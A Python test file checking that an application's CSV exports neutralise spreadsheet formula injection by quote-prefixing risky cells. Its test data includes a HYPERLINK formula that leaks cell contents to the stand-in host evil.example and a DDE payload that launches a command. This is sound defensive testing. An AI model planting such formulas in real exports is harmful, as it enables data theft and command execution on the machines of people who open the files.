"""CSV exports neutralise cells that spreadsheet software would run as formulas (OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any

from click.testing import CliRunner

from app.cli import main
from app.core.timeutil import LOCAL_TZ
from app.stats.reports import csv_cell
from tests.conftest import World

HOSTILE = {
    "000.00.11.H39": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "000.00.12.H39": "+1+cmd|' /C calc'!A0",
    "000.00.13.H39": "-2+3",
    "000.00.14.H39": "@SUM(1+1)",
    "000.00.15.H39": "\t=1+1",
    "000.00.16.H39": "\r=1+1",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_neutral(text: str) -> None:
    cells = _cells(text)
    for name in HOSTILE.values():
        assert "'" + name in cells, (name, text[:500])
    assert not [c for c in cells if c.startswith(FORMULA)]


def test_csv_cell() -> None:
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t1",
        "'\r1",
    ]
    assert [csv_cell(v) for v in ("Sở Nội vụ", "a=1", -1, 0.5, None)] == [
        "Sở Nội vụ",
        "a=1",
        -1,
        0.5,
        "",
    ]


def test_every_csv_export_neutralises_formulas(
    client, world: World, settings: Any, tmp_path: Path
) -> None:
    admin = world.auth("admin")
    for organ_id, name in HOSTILE.items():
        r = client.post(
            "/api/v1/organizations",
            json={"organ_id": organ_id, "name": name, "parent_id": world.PROVINCE},
            headers=admin,
        )
        assert r.status_code == 201, r.text
        assert r.json()["name"] == name  # stored as given: only the CSV is neutralised
    csv_accept = admin | {"Accept": "text/csv"}
    year = datetime.now(LOCAL_TZ).year
    inactive = client.get(
        "/api/v1/stats/inactive",
        params={"since": "2020-01-01", "until": "2020-12-31"},
        headers=csv_accept,
    )
    assert inactive.status_code == 200
    _assert_neutral(inactive.content.decode("utf-8-sig"))
    report = client.get("/api/v1/stats/report", params={"year": year}, headers=csv_accept)
    assert report.status_code == 200
    _assert_neutral(report.content.decode("utf-8-sig"))
    interchange = client.get(
        "/api/v1/stats/interchange",
        params={"since": f"{year}-01-01", "until": f"{year}-12-31", "granularity": "year"},
        headers=csv_accept,
    )
    assert interchange.status_code == 200
    _assert_neutral(interchange.content.decode("utf-8-sig"))

    target = tmp_path / "report.csv"
    env = {
        "LIENTHONG_DATABASE_URL": settings.database_url,
        "LIENTHONG_DATA_DIR": str(settings.data_dir),
        "LIENTHONG_KEY_PASSPHRASE": "test-passphrase",
    }
    out = CliRunner().invoke(
        main,
        ["stats", "export", "--year", str(year), "--format", "csv", "-o", str(target)],
        env=env,
        catch_exceptions=False,
    )
    assert out.exit_code == 0, out.output
    _assert_neutral(target.read_bytes().decode("utf-8-sig"))
